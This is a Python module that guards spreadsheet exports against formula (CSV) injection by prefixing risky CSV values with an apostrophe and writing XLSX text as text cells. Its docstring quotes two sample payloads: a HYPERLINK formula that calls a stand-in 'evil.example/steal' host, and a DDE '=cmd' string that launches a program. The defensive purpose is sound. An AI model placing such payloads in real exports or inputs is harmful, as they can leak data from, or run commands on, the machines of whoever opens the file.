"""One rule for every CSV and XLSX cell written from people's data: it is data, never a formula.

A veto reason ``=HYPERLINK("http://evil.example/steal","veto")`` or an applicant named ``=cmd|' /C calc'!A0``
must open in Excel as the text that was typed. OWASP's CSV-injection rule: a CSV value starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return is written with a leading apostrophe; an XLSX cell holding
text is written as a text cell, whatever it starts with (openpyxl would store "=..." as a formula).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Excel's limit for one cell; a longer text is cut and says so.
MAX_CELL = 32_767
TRUNCATED = "…[已截断]"


def csv_value(value: Any) -> Any:
    """A CSV field: None as empty, text that a spreadsheet would read as a formula prefixed with '."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def text_value(value: Any) -> str:
    """The text an XLSX text cell holds: characters XML cannot hold dropped, cut at Excel's cell limit."""
    text = "" if value is None else str(value)
    if len(text) <= MAX_CELL and text.isprintable():  # no control character: nothing to drop or cut
        return text
    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    if len(text) > MAX_CELL:
        text = text[: MAX_CELL - len(TRUNCATED)] + TRUNCATED
    return text


def text_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Cell:
    """An XLSX text cell for ``sheet`` (its text as ``text_value`` makes it)."""
    cell = WriteOnlyCell(sheet, text_value(value))
    cell.data_type = "s"
    return cell


def xlsx_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """A row for ``sheet.append``: every text value as a text cell, numbers, dates and blanks as they are."""
    return [text_cell(sheet, value) if isinstance(value, str) else value for value in values]
